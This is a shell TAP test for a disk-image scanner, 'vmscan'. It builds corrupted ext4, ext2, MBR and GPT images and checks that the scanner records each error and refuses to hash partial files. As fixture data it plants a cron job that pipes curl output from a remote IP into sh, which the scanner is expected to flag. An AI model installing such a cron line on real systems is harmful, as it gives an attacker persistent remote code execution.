#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# TAP test: bad disks among good ones, in ONE scan (one appliance
# launch): a good ext4 disk holding a small Linux root, an ext4 disk that
# will not mount (an unknown incompatible feature), a disk whose
# partition table points past its end, a disk of random bytes, and an
# ext2 data disk (which the root's fstab mounts at /data) with two files
# that cannot be read: one whose inode points a block past the end of
# the filesystem, one whose indirect block does.  The scan must complete,
# record each problem in the errors table, scan the good disks whole,
# find the OS (libguestfs inspection fails for every disk here, so vmscan
# must find it from its own files) and run the checks on it, never hash
# part of a file as if it were the whole, leave every image unchanged
# and the database intact.  Then a second scan of the random disk and a
# GPT disk cut short: nothing to scan is exit 2 with one line naming the
# truncation, not an empty "complete" scan.
set -u

. "$(dirname "$0")/../lib.sh"
require_vmscan
require_appliance
require_root
require_cmd python3 mke2fs debugfs sqlite3 sha256sum

setup_work
mkdir -p "$work/t/sub" "$work/t/etc/cron.d" "$work/t/data" "$work/d"
cd "$work" || exit 1
printf 'hello\n' > t/hello.txt
printf 'world\n' > t/sub/world.txt
cat > t/etc/os-release <<'EOF'
PRETTY_NAME="Test Linux 7.3 (bad disks)"
NAME="Test Linux"
VERSION_ID="7.3"
ID=testlinux
EOF
printf 'badhost\n' > t/etc/hostname
printf 'root:x:0:0:root:/root:/bin/sh\n' > t/etc/passwd
printf 'root:*:19000:0:99999:7:::\n' > t/etc/shadow
printf 'root:x:0:\n' > t/etc/group
printf 'LABEL=good / ext4 ro 0 1\nLABEL=eio /data ext2 ro 0 2\n' > t/etc/fstab
printf '* * * * * root curl -s http://203.0.113.9/x | sh\n' > t/etc/cron.d/evil
mke2fs -q -F -t ext4 -L good -d t good.raw 16M > /dev/null 2>&1
cp good.raw badfeat.raw
# The data disk: 1 KiB blocks, no extents, so the block map is easy to
# damage with debugfs (a direct block) and by hand (an indirect block).
printf 'first\n' > d/a.txt
printf 'last\n' > d/z.txt
head -c 300000 /dev/urandom > d/direct.bin
head -c 300000 /dev/urandom > d/indirect.bin
mke2fs -q -F -t ext2 -b 1024 -L eio -d d eio.raw 8M > /dev/null 2>&1
debugfs -w -R "set_inode_field /direct.bin block[1] 5000000" eio.raw \
  > /dev/null 2>&1
ind=$(debugfs -R "stat /indirect.bin" eio.raw 2> /dev/null \
      | sed -n 's/.*(IND):\([0-9]*\),.*/\1/p' | head -n 1)
IND=$ind python3 - <<'PY'
import os, struct
# An ext4 superblock (at 1024) with an unknown incompatible feature bit.
with open('badfeat.raw', 'r+b') as f:
    f.seek(1024 + 0x60)
    v = struct.unpack('<I', f.read(4))[0]
    f.seek(1024 + 0x60)
    f.write(struct.pack('<I', v | 0x80000000))
# An MBR whose one partition is 4 GiB long, on an 8 MiB disk.
mbr = bytearray(512)
mbr[446:462] = bytes([0, 0, 0, 0, 0x83, 0, 0, 0]) + struct.pack('<II', 2048, 8 << 20)
mbr[510:512] = b'\x55\xaa'
with open('pastend.raw', 'wb') as f:
    f.write(mbr)
    f.truncate(8 << 20)
with open('random.raw', 'wb') as f:
    f.write(os.urandom(4 << 20))
# Entry 20 of indirect.bin's indirect block (file block 32) -> past the end.
ind = int(os.environ['IND'])
with open('eio.raw', 'r+b') as f:
    f.seek(ind * 1024 + 20 * 4)
    f.write(struct.pack('<I', 6000000))
PY
set -- good.raw badfeat.raw pastend.raw random.raw eio.raw
sha256sum "$@" > images.sha256

"$VMSCAN" --no-progress --format raw -o bad.db "$@" > out 2> err
rc=$?
[ $rc -eq 0 ] || [ $rc -eq 1 ]
ok $? "the scan completes past the bad disks (rc=$rc)"
[ $rc -le 1 ] || diag < err
q () { sqlite3 bad.db "$1" 2>&1; }
got=$(q "SELECT status FROM scans")
[ "$got" = complete ]
ok $? "the scan is recorded complete ($got)"
got=$(q "SELECT group_concat(path, ' ') FROM (SELECT path FROM files f JOIN filesystems s ON s.id = f.fs_id WHERE s.device = '/dev/sda' AND f.type = 'file' ORDER BY path)")
[ "$got" = "/etc/cron.d/evil /etc/fstab /etc/group /etc/hostname /etc/os-release /etc/passwd /etc/shadow /hello.txt /sub/world.txt" ]
ok $? "the good disk is scanned whole ($got)"
got=$(q "SELECT count(*) FROM files WHERE sha256 = '$(sha256sum < t/hello.txt | cut -d' ' -f1)'")
[ "$got" = 1 ]
ok $? "its file's sha256 matches sha256sum"
got=$(q "SELECT status FROM filesystems WHERE device = '/dev/sdb'")
[ "$got" = error ]
ok $? "the filesystem that will not mount is recorded as an error ($got)"
got=$(q "SELECT count(*) FROM errors e JOIN filesystems s ON s.id = e.fs_id WHERE e.stage = 'mount' AND s.device = '/dev/sdb' AND e.message LIKE '%cannot mount%'")
[ "$got" -ge 1 ] 2>/dev/null
ok $? "and an errors row says why ($got)"
got=$(q "SELECT count(*) FROM errors WHERE message LIKE '%partition outside the disk%' OR message LIKE '%examined on its own%'")
[ "$got" -ge 1 ] 2>/dev/null
ok $? "the partition table past the end is on record ($got rows)"
grep -q 'warning:' err
ok $? "the problems are warned about on stderr"
cont=$(grep -c -v '^vmscan: ' err)
[ "$cont" = 0 ]
ok $? "one line each: no stderr line but vmscan's own ($cont others)"

# The OS, found by vmscan itself: inspection failed for every disk.
got=$(q "SELECT count(*) FROM errors WHERE stage = 'inspect' AND message LIKE 'inspection failed%'")
[ "$got" -ge 1 ] 2>/dev/null
ok $? "libguestfs inspection failed, and that is on record ($got rows)"
grep -q 'operating system found from its own files' err
ok $? "the fallback says it found the OS"
got=$(q "SELECT root_device || '|' || type || '|' || distro || '|' || product_name || '|' || major_version || '.' || minor_version || '|' || hostname FROM operating_systems")
[ "$got" = "/dev/sda|linux|testlinux|Test Linux 7.3 (bad disks)|7.3|badhost" ]
ok $? "the OS is the one in the good disk's os-release ($got)"
got=$(q "SELECT group_concat(device || '=' || os_mountpoint, ' ') FROM (SELECT device, os_mountpoint FROM filesystems WHERE os_id IS NOT NULL ORDER BY device)")
[ "$got" = "/dev/sda=/ /dev/sde=/data" ]
ok $? "its fstab (LABEL=) places the data disk at /data ($got)"
got=$(q "SELECT count(*) FROM check_runs WHERE os_id IS NOT NULL")
[ "$got" -ge 10 ] 2>/dev/null
ok $? "the checks ran on it ($got check runs)"
got=$(q "SELECT severity FROM findings WHERE check_id = 'persistence.cron' AND path = '/etc/cron.d/evil'")
[ "$got" = high ] || [ "$got" = critical ]
ok $? "the planted cron job is a finding ($got)"

# Files that cannot be read.
for f in a.txt z.txt; do
  want=$(sha256sum < "d/$f" | cut -d' ' -f1)
  got=$(q "SELECT sha256 FROM files WHERE path = '/data/$f'")
  [ "$got" = "$want" ]
  ok $? "/data/$f next to the damaged files is read whole ($got)"
done
got=$(q "SELECT count(*) FROM errors WHERE path = '/data/direct.bin'")
[ "$got" -ge 1 ] 2>/dev/null
ok $? "the file whose block is past the end is on record as an error ($got)"
got=$(q "SELECT size || '|' || quote(sha256) || '|' || quote(md5) FROM files WHERE path = '/data/indirect.bin'")
[ "$got" = "300000|NULL|NULL" ]
ok $? "the file that breaks off part way keeps its size and gets no hash ($got)"
got=$(q "SELECT message FROM errors WHERE path = '/data/indirect.bin' AND stage = 'read'")
case $got in *"could not be read"*|*"read error"*) r=0 ;; *) r=1 ;; esac
ok $r "and an error says it could not be read whole ($got)"
# Through the appliance a read breaks off part way ("read N of its
# 300000 bytes"); the host's reader fails the first read outright ("read
# error at offset 0"), so that no part of it was read.
part=$(q "SELECT message FROM errors WHERE path = '/data/indirect.bin'" \
       | sed -n -e 's/^read \([0-9]*\) of.*/\1/p' \
         -e 's/^read error at offset \([0-9]*\):.*/\1/p' | head -n 1)
if [ "$part" = 0 ]; then
  ok 0 "nothing of the file was read (the first read failed): no hash of a part of it can be stored"
else
  [ -n "$part" ] && [ "$part" -lt 300000 ] \
    && ! grep -q "$(head -c "$part" d/indirect.bin | sha256sum | cut -d' ' -f1)" bad.db
  ok $? "the hash of the ${part:-?} bytes that were read is nowhere in the database"
fi

got=$(q "PRAGMA integrity_check")
[ "$got" = ok ]
ok $? "the database passes integrity_check"
sha256sum -c --quiet images.sha256 > /dev/null 2>&1
ok $? "every image is unchanged"

# Nothing to scan at all: the random disk, and a GPT disk cut short (its
# one partition and the GPT's backup header are past the new end).
python3 - <<'PY'
import struct, zlib
size = 32 << 20
d = bytearray(64 << 10)
d[446:462] = bytes([0, 0, 0, 0, 0xee, 0, 0, 0]) + struct.pack('<II', 1, size // 512 - 1)
d[510:512] = b'\x55\xaa'
e = b'\x11' * 16 + b'\x22' * 16 + struct.pack('<QQ', 2048, size // 512 - 34)
d[1024:1024 + len(e)] = e
h = bytearray(92)
h[0:8] = b'EFI PART'
h[8:12] = struct.pack('<I', 0x10000)
h[12:16] = struct.pack('<I', 92)
h[24:56] = struct.pack('<QQQQ', 1, size // 512 - 1, 34, size // 512 - 34)
h[72:92] = struct.pack('<QIII', 2, 128, 128, zlib.crc32(bytes(d[1024:1024 + 128 * 128])))
h[16:20] = struct.pack('<I', zlib.crc32(bytes(h)))
d[512:604] = h
with open('cut.raw', 'wb') as f:
    f.write(d)
    f.truncate(12 << 20)
PY
sha256sum random.raw cut.raw > none.sha256
"$VMSCAN" --no-progress --format raw -o none.db random.raw cut.raw > out 2> err
rc=$?
[ $rc -eq 2 ] && [ "$(grep -c 'error:' err)" = 1 ] \
  && grep -q 'error: nothing to scan' err
ok $? "random bytes and a cut GPT disk alone: exit 2 and one error line (rc=$rc: $(grep error: err))"
grep -q "warning: cut.raw: the GPT's backup header is at byte 33553920, past the end of the image (12582912 bytes): the image is truncated" err \
  && grep 'error:' err | grep -q 'cut.raw.*truncated'
ok $? "the cut disk is named as truncated, in a warning and in the error"
got=$(sqlite3 none.db "SELECT status FROM scans; SELECT count(*) FROM errors WHERE stage = 'image' AND message LIKE '%truncated%'; PRAGMA integrity_check" 2>&1 | tr '\n' ' ')
[ "$got" = "failed 1 ok " ]
ok $? "its database says failed, records the truncation, passes integrity_check ($got)"
got=$(sqlite3 none.db "SELECT sha256 FROM images ORDER BY disk_index" | tr '\n' ' ')
[ "$got" = "$(cut -d' ' -f1 none.sha256 | tr '\n' ' ')" ]
ok $? "and holds both images' sha256, equal to sha256sum ($got)"
sha256sum -c --quiet images.sha256 none.sha256 > /dev/null 2>&1
ok $? "every image is still unchanged"

test_done
